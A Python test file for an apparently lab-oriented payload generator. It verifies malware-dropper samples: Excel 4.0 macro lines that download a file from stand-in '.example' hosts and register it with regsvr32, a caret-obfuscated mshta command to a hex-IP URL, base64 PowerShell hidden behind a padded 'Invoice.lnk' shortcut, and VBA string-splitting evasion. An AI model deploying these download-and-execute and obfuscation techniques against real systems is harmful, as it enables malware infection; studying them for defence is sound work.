"""The payload texts: published shapes, and the same addresses again when they are unfolded."""

import re
from base64 import b64decode

from sekisho.app.lab import payloads

URLS = payloads.fallback_urls(0)


def test_six_urls_that_all_end_with_a_slash():
    assert len({*URLS}) == 6
    assert all(re.fullmatch(r"http://[a-z-]+\.example/(wp-|cgi-bin)\S*/", url) for url in URLS)
    assert payloads.fallback_urls(1)[0] != URLS[0]
    assert payloads.shop_address(URLS[0]) == ("flower-shop.example", "198.51.100.101")


def test_script_behind_the_shortcut():
    overlay = payloads.vbs_overlay(URLS)
    assert len(overlay) == 3008
    lines = overlay.decode("ascii").split("\r\n")
    assert lines[0] == lines[-1] == ""
    assert all(payloads.VBS_MARK in line for line in lines[1:-1])  # or findstr would not copy them
    joined = overlay.decode("ascii").replace('" & "', "")
    assert all(url.removeprefix("http://") in joined for url in URLS)
    assert "http://" not in overlay.decode("ascii")


def test_arguments_with_base64():
    text = payloads.powershell_arguments("Invoice.lnk", URLS)
    assert "Invoice.lnk" + " " * 110 + '"' in text
    script = b64decode(re.search(r"FromBase64String\('([^']+)'", text)[1]).decode("ascii")
    assert script == payloads.powershell_script(URLS)
    assert all(f'"{url}"' in script for url in URLS)


def test_macro_sheet_lines():
    lines = payloads.xlm_lines(URLS)
    assert lines[0] == f'=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{URLS[0]}","..\\xdwno.ocx",0,0)'
    assert lines[1].startswith('=IF(HRHRE1<0,CALL("urlmon"')
    assert lines[-2:] == ('=EXEC("C:\\Windows\\System32\\regsvr32.exe ..\\xdwno.ocx")', "=RETURN()")
    assert len(lines) == 9


def test_carets():
    command = payloads.hta_command(payloads.HEX_URL)
    assert command == "cmd /c m^sh^t^a h^tt^p^:/^/0xcb00710a/fer/fe3.html"
    assert command.replace("^", "") == f"cmd /c mshta {payloads.HEX_URL}"


def test_vba_strings_join_to_the_command():
    command = payloads.vba_command(URLS)
    source = payloads.vba_modules(command)["Nlw5s"]
    pieces = re.findall(r'Xkq4r = Xkq4r & "([^"]*)"', source)
    assert "".join(pieces).replace(payloads.JUNK, "") == command
    assert "winmgmts" not in source
    script = b64decode(command.removeprefix("powershell -e ")).decode("utf-16-le")
    assert "*".join(URLS) in script
